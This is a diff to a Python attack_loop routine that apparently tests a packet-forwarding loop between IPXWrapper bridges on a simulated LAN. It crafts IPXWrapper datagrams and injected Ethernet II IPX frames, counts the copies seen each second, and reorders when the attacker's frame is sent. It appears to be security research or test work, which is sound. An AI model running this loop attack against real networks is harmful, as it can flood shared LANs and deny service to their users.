@@ -454,15 +454,16 @@ def attack_loop(net: Lan, cfg: Cfg) -> Result:
             for seq, with_frame in ((0, False), (1, True)):
                 # 27 + 56 = 83 bytes to b1 from a plain socket. Which copy b2 hears first,
                 # b1's frame or its peer copy, is a race (IPXWrapper's header has no hop
-                # count); the attacker can settle it with one frame of its own to b2 first,
-                # hop count 1 (a copy b1's frames do not exceed).
+                # count); the attacker can settle it with one frame of its own to b2 right
+                # after, hop count 1 (a copy b1's frames do not exceed), which reaches b2
+                # before anything b1 sends.
                 t0 = time.monotonic()
                 data = tag(LOOP_A, seq, 56)
+                datagram = ipxwrapper(BROADCAST, GAME_SOCKET, ATT_NODE, GAME_SOCKET, data)
+                att.to(datagram, (B1_LAN, IPXWRAPPER_PORT))
                 if with_frame:
                     packet = ipx(BROADCAST, GAME_SOCKET, ATT_NODE, GAME_SOCKET, data, hops=1)
                     att.frame(frame(net.macs["b2"], att.mac, ETHERNET_II, packet))
-                datagram = ipxwrapper(BROADCAST, GAME_SOCKET, ATT_NODE, GAME_SOCKET, data)
-                att.to(datagram, (B1_LAN, IPXWRAPPER_PORT))
                 per_second: list[int] = []
                 for second in range(watch):
                     time.sleep(max(0.0, t0 + second + 1 - time.monotonic()))
@@ -526,7 +527,7 @@ def attack_loop(net: Lan, cfg: Cfg) -> Result:
         )
         res.row(
             "one 83-byte IPXWrapper datagram to one bridge from anyone on the subnet"
-            + (", and one Ethernet II frame of it to the other first" if name != "single" else ""),
+            + (", and one Ethernet II frame of it to the other" if name != "single" else ""),
             "one copy per kind, then silence",
             f"{plural(frames, 'frame')} + {plural(datagrams, 'IPXWrapper datagram')} in "
             f"{len(per_second)} s, {last:,} in the last second"
